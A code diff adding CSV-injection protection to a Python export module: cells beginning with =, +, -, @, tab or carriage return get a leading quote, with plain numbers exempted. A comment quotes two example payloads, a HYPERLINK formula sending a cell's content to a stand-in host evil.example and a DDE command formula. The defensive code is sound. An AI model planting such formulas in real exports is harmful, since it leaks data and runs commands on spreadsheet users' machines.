@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 
 from sqlalchemy import select
@@ -14,6 +15,29 @@ from koll.store.schema import feeds, items, mentions
 # The contract's field names, in this order (more may be added at the end, never renamed).
 ITEM_FIELDS = ["url", "title", "text", "published", "source", "feed", "author", "lang", "kind"]
 MENTION_FIELDS = ITEM_FIELDS + ["brand", "owned", "label", "score", "story"]
+
+
+# A spreadsheet runs a cell that starts with one of these as a formula (OWASP's list for CSV
+# injection): a feed title `=HYPERLINK("http://evil.example/?x="&A1,"Klicka")` would become a
+# live link that sends the neighbouring cell away, `=cmd|' /C calc'!A0` a command.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# ... except a plain number such as -0.25 or +3, which a spreadsheet reads as the number it is.
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def spreadsheet_safe(value):
+    """A CSV cell that no spreadsheet runs as a formula: text starting with = + - @, a tab or a
+    carriage return gets a leading ' (shown as text, the ' hidden); anything else is unchanged.
+
+    For every CSV koll writes; JSON lines and Parquet keep the text exactly as stored.
+    """
+    risky = isinstance(value, str) and value.startswith(_FORMULA_START)
+    return "'" + value if risky and not _PLAIN_NUMBER.fullmatch(value) else value
+
+
+def spreadsheet_row(row: dict) -> dict:
+    """`row` with every cell made spreadsheet_safe."""
+    return {k: spreadsheet_safe(v) for k, v in row.items()}
 
 
 def iso_utc(dt) -> str:
